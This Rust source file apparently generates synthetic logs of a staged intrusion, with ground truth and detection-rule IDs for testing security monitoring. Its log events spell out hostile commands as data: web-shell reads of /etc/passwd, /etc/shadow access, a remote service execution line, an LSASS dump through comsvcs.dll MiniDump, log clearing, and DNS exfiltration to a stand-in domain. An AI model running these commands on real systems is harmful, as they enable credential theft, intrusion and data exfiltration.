//! The attack: guess a password, plant a web shell, take credentials, move on, carry data out through DNS.

use std::net::Ipv4Addr;
use std::time::Duration;

use canh_schema::Timestamp;
use rand::RngExt;
use rand::rngs::StdRng;
use serde_json::json;

use crate::audit::{self, NO_LOGIN, Process};
use crate::network::{self, TXT};
use crate::output::Output;
use crate::sshd::{Client, Proof};
use crate::truth::{GroundTruth, Step};
use crate::web::{self, Request};
use crate::windows::{self, SECURITY, SYSMON};
use crate::world::{Clock, WEB_UID, host, pid};

const ATTACKER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 77);
/// Guesses before the right one.
const GUESSES: u64 = 60;
/// Questions that carry data out.
const QUESTIONS: u64 = 400;
const EXFILTRATION_DOMAIN: &str = "dongbo.cdn-cache.example";

pub(crate) fn run(clock: &Clock, random: &mut StdRng, output: &mut Output) -> GroundTruth {
    let steps = vec![
        brute_force(clock, random, output),
        web_shell(clock, random, output),
        credentials_linux(clock, random, output),
        lateral_linux(clock, random, output),
        lateral_windows(clock, random, output),
        credentials_windows(clock, random, output),
        exfiltration(clock, random, output),
    ];
    GroundTruth { attacker: "198.51.100.77", steps }
}

fn span(start: Timestamp, end: Timestamp) -> (String, String) {
    (start.to_string(), end.to_string())
}

fn brute_force(clock: &Clock, random: &mut StdRng, output: &mut Output) -> Step {
    let begin = clock.before_end(150.0);
    let mut at = begin;
    for n in 0..GUESSES {
        let (user, exists) = [("root", true), ("admin", false), ("ungdung", true), ("oracle", false)][(n % 4) as usize];
        let client = Client { clock, host: "API-Svr", address: ATTACKER, user };
        client.fail(random, output, at, exists);
        network::ssh(random, output, at, ATTACKER, "API-Svr", 2);
        at = at + Duration::from_millis(random.random_range(1_500..3_500));
    }
    let client = Client { clock, host: "API-Svr", address: ATTACKER, user: "ungdung" };
    client.login(random, output, at, Proof::Password, Duration::from_secs(3_600));
    network::ssh(random, output, at, ATTACKER, "API-Svr", 40);
    let (start, end) = span(begin, at);
    Step {
        id: "brute-force",
        name: "SSH password guessed",
        technique: "T1110.001",
        host: "API-Svr",
        start,
        end,
        rules: &[
            "9c1f7a0e-53c4-4b53-8f0e-6a0f4e0b7a11",
            "4e7a9b52-2d1c-4f59-9a86-0d6c7d1e5b22",
            "18f0b1cf-df59-478b-bd42-f0448e5bd0c1",
        ],
    }
}

fn web_shell(clock: &Clock, random: &mut StdRng, output: &mut Output) -> Step {
    const COMMANDS: [(&str, &[&str]); 5] = [
        ("whoami", &["whoami"]),
        ("id", &["id"]),
        ("cat+/etc/passwd", &["cat", "/etc/passwd"]),
        ("uname+-a", &["uname", "-a"]),
        ("netstat+-ant", &["netstat", "-ant"]),
    ];
    let begin = clock.before_end(132.0);
    let upload = Request {
        address: ATTACKER,
        method: "POST",
        path: "/dvc/hoso/tailen",
        status: 200,
        bytes: 214,
        agent: "python-requests/2.31.0",
    };
    web::access(clock, output, "API-Svr", begin, &upload);
    let mut at = begin;
    for (command, arguments) in COMMANDS {
        at = at + Duration::from_secs(random.random_range(20..70));
        let path = format!("/dvc/tailen/anh_ho_so.jsp?cmd={command}");
        let agent = "python-requests/2.31.0";
        web::access(
            clock,
            output,
            "API-Svr",
            at,
            &Request { address: ATTACKER, method: "GET", path: &path, status: 200, bytes: 731, agent },
        );
        let request = format!("GET {path} HTTP/1.1\r\nHost: api.tinh.example\r\nUser-Agent: {agent}\r\n\r\n");
        network::http(random, output, at, ATTACKER, "API-Svr", &request, 700);
        // The application server runs a shell, and the shell runs the command.
        let parent = pid(random);
        let shell = Process { auid: NO_LOGIN, uid: WEB_UID, comm: "sh", exe: "/usr/bin/bash", parent };
        audit::execute(random, output, "API-Svr", at, &shell, &["/bin/sh", "-c", &command.replace('+', " ")]);
        let exe = format!("/usr/bin/{}", arguments[0]);
        let program = Process { auid: NO_LOGIN, uid: WEB_UID, comm: arguments[0], exe: &exe, parent: parent + 1 };
        audit::execute(random, output, "API-Svr", at + Duration::from_millis(12), &program, arguments);
    }
    let (start, end) = span(begin, at);
    Step {
        id: "web-shell",
        name: "web shell uploaded and used",
        technique: "T1505.003",
        host: "API-Svr",
        start,
        end,
        rules: &["b3d6e8f4-71a2-4c0d-8e95-2f1a6c9d3e33", "d2a84c67-0f3b-4e1e-b7c8-5a9e1f2b6c44"],
    }
}

fn credentials_linux(clock: &Clock, random: &mut StdRng, output: &mut Output) -> Step {
    let begin = clock.before_end(110.0);
    let reader = Process { auid: 1_005, uid: 0, comm: "tar", exe: "/usr/bin/tar", parent: pid(random) };
    audit::open(random, output, "API-Svr", begin, &reader, "/etc/shadow", "shadow");
    let end = begin + Duration::from_secs(40);
    let cracker = Process { auid: 1_005, uid: 0, comm: "unshadow", exe: "/tmp/.x/unshadow", parent: pid(random) };
    audit::open(random, output, "API-Svr", end, &cracker, "/etc/shadow", "shadow");
    let (start, end) = span(begin, end);
    Step {
        id: "credentials-linux",
        name: "password hashes read",
        technique: "T1003.008",
        host: "API-Svr",
        start,
        end,
        rules: &["e5c91b38-6d47-4a2f-9b03-8c7d2e4f1a55"],
    }
}

fn lateral_linux(clock: &Clock, random: &mut StdRng, output: &mut Output) -> Step {
    let begin = clock.before_end(95.0);
    let from = host("API-Svr").address;
    let mut at = begin;
    for target in ["ESB-Svr", "DSS-Svr"] {
        let client = Client { clock, host: target, address: from, user: "ungdung" };
        client.login(random, output, at, Proof::Password, Duration::from_secs(900));
        network::ssh(random, output, at, from, target, 25);
        at = at + Duration::from_secs(240);
    }
    let (start, end) = span(begin, at);
    Step {
        id: "lateral-linux",
        name: "log-in from the DMZ into the application zone",
        technique: "T1021.004",
        host: "ESB-Svr",
        start,
        end,
        rules: &["f8b27d10-4c9e-4d68-a1f5-3e6b9c0d2f66"],
    }
}

fn lateral_windows(clock: &Clock, random: &mut StdRng, output: &mut Output) -> Step {
    let begin = clock.before_end(80.0);
    let from = host("ESB-Svr").address.to_string();
    windows::logon(random, output, begin, "quantri", 3, &from);
    let installed = begin + Duration::from_secs(4);
    windows::service(
        random,
        output,
        installed,
        "kqzvwfpt",
        "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat",
    );
    let end = installed + Duration::from_secs(2);
    windows::process(
        random,
        output,
        end,
        "SYSTEM",
        "C:\\Windows\\System32\\cmd.exe",
        "cmd.exe /Q /c C:\\Windows\\TEMP\\execute.bat",
        "C:\\Windows\\System32\\services.exe",
    );
    let (start, end) = span(begin, end);
    Step {
        id: "lateral-windows",
        name: "service installed from afar",
        technique: "T1569.002",
        host: windows::HOST,
        start,
        end,
        rules: &["a6e30c92-8b1d-4f74-9c52-7d0e4a8b1c77"],
    }
}

fn credentials_windows(clock: &Clock, random: &mut StdRng, output: &mut Output) -> Step {
    const LSASS: &str = "C:\\Windows\\System32\\lsass.exe";
    let begin = clock.before_end(72.0);
    let tool = "C:\\Windows\\System32\\rundll32.exe";
    let command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\sao.tmp full";
    windows::process(random, output, begin, "SYSTEM", tool, command, "C:\\Windows\\System32\\cmd.exe");
    windows::access(random, output, begin + Duration::from_millis(80), tool, LSASS, "0x1fffff");
    let written = begin + Duration::from_millis(400);
    let data = json!({"Image": tool, "TargetFilename": "C:\\Windows\\Temp\\sao.tmp", "CreationUtcTime": written.to_string(), "ProcessId": "4408"});
    windows::event(random, output, written, SYSMON, 11, data);
    let end = begin + Duration::from_secs(300);
    let data = json!({"SubjectUserName": "quantri", "SubjectDomainName": "QUANTRI", "SubjectLogonId": "0x3e7"});
    windows::event(random, output, end, (SECURITY.0, "Microsoft-Windows-Eventlog"), 1_102, data);
    let (start, end) = span(begin, end);
    Step {
        id: "credentials-windows",
        name: "memory of LSASS dumped, log cleared",
        technique: "T1003.001",
        host: windows::HOST,
        start,
        end,
        rules: &[
            "c7f15e83-9a2c-4b86-8d40-1e9f5b3a7d88",
            "18d94a6b-3e7f-4c95-b216-9f0a6c2d8e99",
            "2b6fd07c-15a8-4e03-97cb-4d8e1f5a3baa",
        ],
    }
}

fn exfiltration(clock: &Clock, random: &mut StdRng, output: &mut Output) -> Step {
    let begin = clock.before_end(55.0);
    let client = host("API-Svr").address;
    let mut at = begin;
    for n in 0..QUESTIONS {
        let mut label = || -> String {
            (0..52).map(|_| char::from(b"abcdefghijklmnopqrstuvwxyz234567"[random.random_range(0..32)])).collect()
        };
        let name = format!("{}.{}.{n:04x}.{EXFILTRATION_DOMAIN}", label(), label());
        network::dns(random, output, at, client, &name, TXT, &network::txt("ok"));
        at = at + Duration::from_millis(random.random_range(1_000..4_000));
    }
    let (start, end) = span(begin, at);
    Step {
        id: "exfiltration",
        name: "data carried out in DNS questions",
        technique: "T1048.003",
        host: "API-Svr",
        start,
        end,
        rules: &["3c8ae19d-27b9-4f14-a8dc-5e9f2a6b4cbb"],
    }
}
